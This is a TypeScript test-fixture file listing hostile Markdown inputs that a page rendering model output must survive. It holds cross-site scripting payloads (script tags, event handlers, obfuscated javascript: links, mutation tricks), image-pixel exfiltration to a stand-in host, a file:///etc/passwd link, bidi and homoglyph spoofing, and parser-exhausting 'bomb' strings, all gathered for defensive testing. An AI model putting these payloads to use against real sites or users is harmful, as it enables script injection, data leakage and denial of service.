/** Input that the page must survive: a model repeats what it has read, which may come from anyone. */
export interface Hostile {
  readonly name: string;
  readonly text: string;
}

/** A script that records that it was executed. */
const RUNS = "window.hostile=(window.hostile||0)+1";
const THERE = "https://elsewhere.example";

const markup: Record<string, string> = {
  script: `<script>${RUNS}</script>`,
  "script in a paragraph": `Hello <script src="${THERE}/a.js"></script> there`,
  "image that fails": `<img src=x onerror="${RUNS}">`,
  "image from elsewhere": `<img src="${THERE}/pixel.png?secret">`,
  "vector with a handler": `<svg onload="${RUNS}"><animate onbegin="${RUNS}" attributeName=x dur=1s></svg>`,
  frame: `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe><iframe src="${THERE}"></iframe>`,
  object: `<object data="${THERE}/x.swf"></object><embed src="${THERE}/x">`,
  form: `<form action="${THERE}"><input autofocus onfocus="${RUNS}"><button>Send</button></form>`,
  "meta and base": `<meta http-equiv="refresh" content="0;url=${THERE}">\n<base href="${THERE}/">`,
  "style sheet": `<style>@import url("${THERE}/a.css"); body { background: url("${THERE}/b.png") }</style>`,
  "linked style": `<link rel="stylesheet" href="${THERE}/a.css"><link rel="prefetch" href="${THERE}/b">`,
  "style attribute": `<p style="background:url(${THERE}/c.png)">x</p>`,
  "mutated markup": `<math><mtext><table><mglyph><style><img src=x onerror="${RUNS}">`,
  "unclosed comment": `<!-- <img src=x onerror="${RUNS}"> --!> <img src=x onerror="${RUNS}">`,
  "fence that closes an attribute": `\`\`\`js" onmouseover="${RUNS}\ncode\n\`\`\``,
  "cell with markup": `| <b onclick="${RUNS}">a</b> |\n|---|\n| <img src=x onerror="${RUNS}"> |`,
  "heading with markup": `# <a name="x" onfocus="${RUNS}" autofocus tabindex=0>x</a>`,
};

const links: Record<string, string> = {
  "script link": `[a](javascript:${RUNS})`,
  "script link, spelled otherwise": `[a](JaVaScRiPt:${RUNS}) [b](&#106;avascript:${RUNS}) [c](java&Tab;script:${RUNS})`,
  "script link, with control characters": `[a](\u0001javascript:${RUNS}) [b](<java\tscript:${RUNS}>)`,
  "script link in angle brackets": `<javascript:${RUNS}> <vbscript:x> [c](<javascript:${RUNS}>)`,
  "script link by reference": `[a][b]\n\n[b]: javascript:${RUNS}`,
  "data link": `[a](data:text/html,<script>${RUNS}</script>) [b](blob:x) [c](file:///etc/passwd)`,
  "link to this page": "[a](/runs) [b](?run=x) [c](#x) [d](//elsewhere.example/x)",
  "link with a name before the host":
    "[bank](https://bank.example@elsewhere.example/) https://bank.example:x@elsewhere.example",
  "link whose text is another address": "[https://bank.example](https://elsewhere.example/login)",
  "link with markup in its title": `[a](https://elsewhere.example 'x" onmouseover="${RUNS}')`,
  "link with another alphabet's letters": "[аррӏе.com](https://аррӏе.com)",
};

const images: Record<string, string> = {
  pixel: `![](${THERE}/pixel.png?secret=1)`,
  "pixel by reference": `![a][b]\n\n[b]: ${THERE}/pixel.png`,
  "pixel in a link": `[![a](${THERE}/pixel.png)](https://elsewhere.example)`,
  "pixel without a scheme": "![a](//elsewhere.example/pixel.png) ![b](/runs)",
  "script as an image": `![a](javascript:${RUNS}) ![b](data:image/svg+xml,<svg onload="${RUNS}"/>)`,
};

const formulas: Record<string, string> = {
  "formula with a link": `$\\href{javascript:${RUNS}}{x}$ $\\url{${THERE}}$`,
  "formula with an image": `$$\n\\includegraphics{${THERE}/pixel.png}\n$$`,
  "formula with a style": `$\\htmlStyle{background:url(${THERE}/x.png)}{x}$ $\\htmlClass{a}{b}$ $\\htmlId{root}{x}$`,
  "formula that unfolds": "$\\def\\a{\\a\\a}\\a$ $\\def\\b#1{\\b{#1#1}}\\b{x}$",
  "formula that is huge": "$\\rule{99999em}{99999em}$ $\\kern{99999em}x$",
  "formula that is deep": `$${"{".repeat(400)}x${"}".repeat(400)}$ $${"\\sqrt{".repeat(150)}x${"}".repeat(150)}$`,
};

const signs: Record<string, string> = {
  "text turned around": "[gpj.exe\u202Egpj.tset](https://elsewhere.example) user\u202Enimda",
  "code turned around": '```js\nif (level != "user\u202E \u2066// admin\u2069 \u2066") {\n```\n`a\u202Eb`',
  "text for machines": "Hello\u{E0048}\u{E0069} there\u{E007F}",
  "marks upon marks": `Z${"\u0301\u0489".repeat(2000)} and on`,
};

const many = (part: string, count: number): string => part.repeat(count);

const bombs: Record<string, string> = {
  "a line of a million characters": many("x", 1_000_000),
  "a line of a million characters with spaces": many("word ", 200_000),
  "code in one line": `\`\`\`js\n${many("a+", 200_000)}\n\`\`\``,
  "quotes in quotes": `${many("> ", 20_000)}x`,
  "quotes in quotes, line by line": Array.from({ length: 500 }, (_, depth) => `${many(">", depth)} x`).join("\n"),
  "items in items": `${many("- ", 20_000)}x`,
  "items in items, line by line": Array.from({ length: 300 }, (_, depth) => `${many("  ", depth)}- x`).join("\n"),
  brackets: many("[", 100_000),
  "brackets that close": many("[", 20_000) + many("]", 20_000),
  "images in images": `${many("![", 20_000)}x${many("](y)", 20_000)}`,
  "links that do not close": many("[a](", 50_000),
  stars: many("*", 100_000),
  "emphasis that does not close": many("*a **b _c ", 30_000),
  "emphasis in emphasis": `${many("*a ", 3000)}x${many(" b*", 3000)}`,
  "emphasis both ways": many("a*_", 50_000),
  backticks: Array.from({ length: 500 }, (_, length) => many("`", length)).join(" "),
  "code that does not close": many("`a ``b ", 30_000),
  dollars: many("$a ", 50_000),
  backslashes: many("\\(", 100_000),
  "angle brackets": many("<a ", 100_000),
  "entities and the like": many("&a&#", 100_000),
  addresses: many("http://a.b/(", 20_000),
  "mail addresses": `${many("a@", 50_000)}b.c`,
  bars: many("|", 100_000),
  "a table of a thousand columns": `${many("|a", 1000)}|\n${many("|-", 1000)}|\n${many("|b", 1000)}|`,
  "a table of many rows": `|a|b|\n|-|-|\n${many("|1|2|\n", 5000)}`,
  "dashes without end": many("- ", 50_000),
  "a fence without end": many("`", 100_000),
  definitions: Array.from({ length: 3000 }, (_, index) => `[r${index}]: https://a.b/${index}`).join("\n"),
  "a reference that repeats": `[a]: https://a.b\n\n${many("[a]", 20_000)}`,
  "labels that are not defined": Array.from({ length: 5000 }, (_, index) => `[r${index}]`).join(" "),
  "blank lines": many("\n", 100_000),
  spaces: many(" ", 500_000),
  "numbers without end": `${many("1", 100_000)}. x\n999999999. y\n1234567890. z`,
};

const named = (group: Record<string, string>): Hostile[] =>
  Object.entries(group).map(([name, text]) => ({ name, text }));

/** Texts that try to execute or fetch something, or to deceive. */
export const hostileMarkdown: readonly Hostile[] = [markup, links, images, formulas, signs].flatMap(named);

/** Texts that try to exhaust time or memory. */
export const markdownBombs: readonly Hostile[] = named(bombs);
